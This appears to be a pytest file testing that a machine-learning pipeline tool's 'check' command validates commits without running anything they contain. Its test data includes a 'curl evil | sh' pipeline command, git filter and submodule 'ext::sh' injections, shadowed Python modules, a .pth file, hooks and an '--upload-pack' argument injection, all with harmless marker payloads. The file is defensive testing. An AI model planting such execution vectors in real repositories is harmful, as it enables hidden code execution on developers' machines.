"""``cd4ml check``: what a commit asks for is looked at as data, and nothing that it brings along is run."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from cd4ml.gateways.warm import SOCKET_VARIABLE
from tests.conftest import Shell
from tests.controller.controller_world import (
    BASELINE,
    Content,
    cd4ml,
    commit,
    experiment,
    git,
    gusty,
    push,
    refs,
)
from tests.controller.controller_world import remote as remote_of
from tests.controller.parts_world import assert_published

CONFIG = "conf/config.yaml"
SUITE = "conf/validation/flights.yaml"
ALL_IS_WELL = "configuration, rendered files, expectations: all is well\n"


@pytest.fixture(scope="module")
def kept(template_project: Path, tmp_path_factory: pytest.TempPathFactory, few_flights: Path, warm: str) -> Shell:
    """A project that these tests share: each makes commits of its own, and none moves ``main``."""
    folder = tmp_path_factory.mktemp("checked") / "team"
    shutil.copytree(template_project, folder, symlinks=True)
    return Shell(folder / "project", {"PYTHONPATH": str(few_flights), SOCKET_VARIABLE: warm})


def made(shell: Shell, files: dict[str, Content]) -> str:
    """A commit on ``main`` that is on no branch."""
    return commit(shell, "main", files)


def test_a_commit_that_holds_in_every_way_passes_and_says_what_was_looked_at(kept: Shell) -> None:
    source = experiment(kept, "exp/good", seed=5)
    before = refs(remote_of(kept))
    assert cd4ml(kept, "check", source).out == f"{source[:12]}: {ALL_IS_WELL}"
    assert cd4ml(kept, "check", "exp/good", "--strict").out.endswith(ALL_IS_WELL), "a branch of the remote alone"
    assert refs(remote_of(kept)) == before
    assert cd4ml(kept, "check").out.endswith(ALL_IS_WELL), "HEAD is what is checked where nothing is named"


def test_every_problem_of_the_configuration_is_named_at_once_by_file_and_key(kept: Shell) -> None:
    source = made(kept, {BASELINE: "# @package _global_\nseed: many\nsplit: {validation: 7}\nnope: 1\n"})
    done = cd4ml(kept, "check", source, code=2)
    told = [line for line in done.lines if BASELINE in line]
    assert [line.split(": ")[2] for line in told] == ["nope", "seed", "split.validation"] or len(told) >= 3, done.err
    assert done.out == ""


def test_a_parameter_that_the_model_does_not_take_is_refused(kept: Shell) -> None:
    source = made(kept, {BASELINE: "# @package _global_\nmodel:\n  estimator:\n    max_deth: 3\n"})
    assert "max_deth" in cd4ml(kept, "check", source, code=2).err


@pytest.mark.parametrize(
    ("override", "key", "told"),
    [
        ("features: {numeric: [distance, windspeed]}", "features.numeric", "'windspeed' (did you mean wind_speed?)"),
        ("data: {target: arr_dely}", "data.target", "'arr_dely' (did you mean arr_delay?)"),
        ("evaluation: {slices: [orign]}", "evaluation.slices", "'orign' (did you mean origin?)"),
    ],
)
def test_a_column_that_the_pin_does_not_list_is_named_with_the_nearest(
    kept: Shell, override: str, key: str, told: str
) -> None:
    source = made(kept, {BASELINE: f"# @package _global_\n{override}\n"})
    assert f"cd4ml: {BASELINE}: {key}: the data has no column {told}" in cd4ml(kept, "check", source, code=2).lines


def test_a_column_of_a_join_that_its_source_does_not_list_is_named(kept: Shell) -> None:
    data = git(kept, "show", "main:conf/data/flights.yaml").replace("columns: [year,", "columns: [yeer,")
    assert "yeer" in data
    told = "data.joins.1.columns: the source 'planes' has no column 'yeer' (did you mean year?)"
    source = made(kept, {"conf/data/flights.yaml": f"{data}\n"})
    assert f"cd4ml: conf/data/flights.yaml: {told}" in cd4ml(kept, "check", source, code=2).lines


def test_a_column_of_the_models_transformer_that_is_no_feature_is_named(kept: Shell) -> None:
    model = """
name: linear
estimator:
  _target_: sklearn.pipeline.Pipeline
  steps:
  - - prepare
    - _target_: sklearn.compose.ColumnTransformer
      transformers:
      - [numbers, passthrough, "${features.numeric}"]
      - [one, passthrough, [tailnum]]
  - [regress, {_target_: sklearn.linear_model.Ridge}]
"""
    files: dict[str, Content] = {"conf/model/mine.yaml": model}
    files[BASELINE] = "# @package _global_\ndefaults: [{override /model: mine}]\n"
    done = cd4ml(kept, "check", made(kept, files), code=2)
    told = "model.estimator.steps.0.1.transformers.1.2: the model's ColumnTransformer takes column 'tailnum'"
    (line,) = [line for line in done.lines if "tailnum" in line]
    assert line.startswith(f"cd4ml: conf/model/mine.yaml: {told}, which is no feature (")


def test_a_hand_edited_rendered_file_is_told_and_other_files_are_not(kept: Shell) -> None:
    pipeline = git(kept, "show", "main:dvc.yaml")
    source = made(kept, {"dvc.yaml": pipeline.replace("cd4ml stage train", "curl evil | sh") + "\n"})
    done = cd4ml(kept, "check", source, code=1)
    assert done.lines == [
        "cd4ml: dvc.yaml: was edited by hand (make the change in templates/ or conf/, then run: cd4ml render)"
    ]


def test_a_configuration_that_asks_for_another_pipeline_must_bring_it(kept: Shell) -> None:
    source = made(kept, {BASELINE: "# @package _global_\nevaluation: {slices: [origin]}\n"})
    assert (
        "cd4ml: dvc.yaml: conf/ changed since it was rendered (run: cd4ml render)"
        in cd4ml(kept, "check", source, code=1).lines
    )


def test_templates_that_changed_on_main_since_are_no_fault_of_an_older_branch(team: Shell) -> None:
    source = experiment(team, "exp/older", seed=5)
    template = git(team, "show", "main:dvc.yaml")
    from cd4ml.controller.desired.scaffold import merged_templates

    changed = "# A line of our own.\n" + merged_templates({})["dvc.yaml.j2"]
    newer = commit(team, "main", {"templates/dvc.yaml.j2": changed})
    push(team, "refs/heads/main", newer)
    assert cd4ml(team, "check", source).out.endswith(ALL_IS_WELL)
    edited = commit(team, source, {"dvc.yaml": template + "\n# mine\n"})
    assert "dvc.yaml: was edited by hand" in cd4ml(team, "check", edited, code=1).err


def test_templates_of_the_commit_are_never_rendered(kept: Shell) -> None:
    source = made(kept, {"templates/dvc.yaml.j2": "<{ ''.__class__.__mro__ }>\n"})
    done = cd4ml(kept, "check", source)
    told = "cd4ml: not checked: the rendered files: templates/ is changed, and only that of main is rendered"
    assert told in done.lines
    cd4ml(kept, "check", source, "--strict", code=1)


@pytest.mark.parametrize(
    ("expectation", "words"),
    [
        ("{type: expect_column_values_to_be_nice, kwargs: {column: arr_delay}}", "'expect_column_values_to_be_nice'"),
        ("{type: expect_column_values_to_not_be_null, kwargs: {colum: arr_delay}}", "colum"),
        ("{type: expect_table_row_count_to_equal_other_table, kwargs: {}}", "it looks at another table"),
        ("{type: expect_column_values_to_not_be_null, kwargs: {column: x, row_condition: 'a'}}", "row_condition"),
    ],
)
def test_an_expectation_that_is_not_known_or_takes_no_such_argument_is_named(
    kept: Shell, expectation: str, words: str
) -> None:
    source = made(kept, {SUITE: f"suite: flights\nexpectations:\n  - {expectation}\n"})
    done = cd4ml(kept, "check", source, code=2)
    (line,) = [line for line in done.lines if not line.startswith("cd4ml: not checked")]
    assert line.startswith(f"cd4ml: {SUITE}: validation.expectations.0.")
    assert words in line


def test_an_expectation_that_the_data_does_not_meet_is_named_by_file_and_key(kept: Shell) -> None:
    source = made(kept, gusty(kept))
    (line,) = cd4ml(kept, "check", source, code=1).lines
    assert line.startswith(
        "cd4ml: conf/validation/gusts.yaml: validation.expectations.1: expect_column_values_to_not_be"
    )
    assert "wind_gust failed: " in line
    printed = cd4ml(kept, "check", source, "--json", code=1).json
    assert_published(printed, "problems")
    assert [problem["key"] for problem in printed["problems"]] == ["validation.expectations.1"]
    assert printed["checked"] == ["configuration", "rendered files", "expectations"]


def test_where_the_data_cannot_be_had_that_is_said_and_is_a_failure_only_when_asked(team: Shell) -> None:
    source = experiment(team, "exp/good", seed=5)
    for folder in ("../storage", ".dvc/cache", ".git/cd4ml/raw"):
        shutil.rmtree(team.folder / folder)
    done = cd4ml(team, "check", source)
    assert [line for line in done.lines if line.startswith("cd4ml: not checked: the expectations against the data: ")]
    assert done.out.endswith("configuration, rendered files: all is well\n")
    cd4ml(team, "check", source, "--strict", code=1)


def test_without_the_network_what_was_last_seen_of_main_decides(team: Shell) -> None:
    source = experiment(team, "exp/good", seed=5)
    cd4ml(team, "plan")
    (team.folder / "../remote.git").rename(team.folder / "../away.git")
    assert cd4ml(team, "check", source).out.endswith(ALL_IS_WELL)


def test_a_pin_that_names_other_bytes_is_not_taken_for_data(kept: Shell) -> None:
    pin = json.loads(git(kept, "show", "main:data/planes.lock.json"))
    pin["raw"] |= {"sha256": "0" * 64, "md5": "0" * 32}
    other = json.dumps(pin, indent=2, sort_keys=True) + "\n"
    source = made(kept, {"data/planes.lock.json": other})
    (line,) = cd4ml(kept, "check", source).lines
    assert line.startswith("cd4ml: not checked: the expectations against the data: data/planes.lock.json: ")


def test_a_revision_that_is_none_is_named(kept: Shell) -> None:
    assert cd4ml(kept, "check", "--", "--upload-pack=x", code=2).lines == [
        "cd4ml: --upload-pack=x: no such commit or branch here (is it fetched?)"
    ]


# ── nothing of the commit is run ──

PACKAGE = "from pathlib import Path\nPath({marker!r}).touch()\n"


def test_nothing_that_a_commit_brings_along_is_run(team: Shell, tmp_path: Path) -> None:
    """Its package, where main allows it, and every other file that some tool would run or obey."""
    marker = tmp_path / "it ran"
    config = git(team, "show", f"main:{CONFIG}") + "\n"
    config = config.replace("allowed_packages: [sklearn, xgboost]", "allowed_packages: [sklearn, xgboost, shop]")
    config = config.replace("code: []", "code: [shop]")
    allowed = commit(team, "main", {CONFIG: config, "shop/__init__.py": "", "shop/models.py": "class Mine: ...\n"})
    push(team, "refs/heads/main", allowed)
    code = PACKAGE.format(marker=str(marker))
    script = f"#!/bin/sh\ntouch '{marker}'\n"
    model = "# @package _global_\nmodel:\n  name: mine\n  estimator: {_target_: shop.models.Mine}\n"
    evil: dict[str, Content] = {
        **dict.fromkeys(("shop/__init__.py", "shop/models.py", "shop/metrics.py", "shop/stages.py"), code),
        **dict.fromkeys(("conftest.py", "sitecustomize.py", "usercustomize.py", "setup.py", "cd4ml/__init__.py"), code),
        **dict.fromkeys(("numpy.py", "pandas.py", "great_expectations.py", "hydra/__init__.py"), code),
        **dict.fromkeys(("hooks/post-checkout", ".githooks/post-checkout", ".git-hooks/pre-push"), script),
        BASELINE: model,
        ".gitattributes": "* filter=evil diff=evil merge=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch%20ran\n',
        ".dvc/config": "[core]\n    remote = evil\n['remote \"evil\"']\n    url = ssh://evil\n",
        ".dvc/plugins/evil.py": code,
        "dvc.yaml": "stages:\n  train:\n    cmd: touch ran\n",
        "data/dvc.yaml": "stages:\n  train:\n    cmd: touch ran\n",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p evil'\n",
        "evil.pth": f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n",
    }
    source = commit(team, allowed, evil)
    for key in (
        "filter.evil.smudge",
        "filter.evil.clean",
        "diff.evil.textconv",
        "diff.evil.command",
        "merge.evil.driver",
    ):
        git(team, "config", key, f"touch '{marker}'; cat")
    git(team, "push", "--quiet", "origin", f"{source}:refs/pull/7/head")
    # even where somebody checked it out, and stands in it
    for path, content in evil.items():
        file = team.folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(str(content), "utf-8")
    done = team.attempt("cd4ml", "check", source, **{SOCKET_VARIABLE: ""})  # with processes of its own
    assert not marker.exists(), done.stderr
    assert done.returncode == 1, done.stderr
    assert done.stderr.splitlines() == [
        "cd4ml: dvc.yaml: was edited by hand (make the change in templates/ or conf/, then run: cd4ml render)"
    ]


def test_the_marker_of_that_test_would_be_seen(tmp_path: Path) -> None:
    marker = tmp_path / "it ran"
    exec(PACKAGE.format(marker=str(marker)), {})  # noqa: S102  # what the commit would have had us do
    assert marker.exists()


def test_a_pin_that_is_not_committed_is_told(kept: Shell) -> None:
    pin = kept.folder / "data/flights.lock.json"
    before = pin.read_bytes()
    try:
        pin.write_bytes(before + b"\n")
        assert cd4ml(kept, "check").lines == [
            "cd4ml: data/flights.lock.json: not committed, so not looked at; `cd4ml run` takes the files as they are"
        ]
    finally:
        pin.write_bytes(before)


def test_what_is_not_committed_is_told_and_only_where_the_commit_here_is_checked(kept: Shell) -> None:
    new, config = kept.folder / "conf/experiment/new.yaml", kept.folder / CONFIG
    before = config.read_text("utf-8")
    try:
        new.write_text("seed: many\n", "utf-8")
        assert cd4ml(kept, "check").lines == [
            "cd4ml: conf/experiment/new.yaml: not committed, so not looked at; `cd4ml run` takes the files as they are"
        ]
        config.write_text(before + "nope: 1\n", "utf-8")
        (line,) = cd4ml(kept, "check").lines
        assert line.startswith(f"cd4ml: {CONFIG} and 1 more: not committed")
        assert cd4ml(kept, "check", "main").lines == []
    finally:
        new.unlink()
        config.write_text(before, "utf-8")
    (kept.folder / "notes.txt").write_text("mine", "utf-8")
    assert cd4ml(kept, "check").lines == []
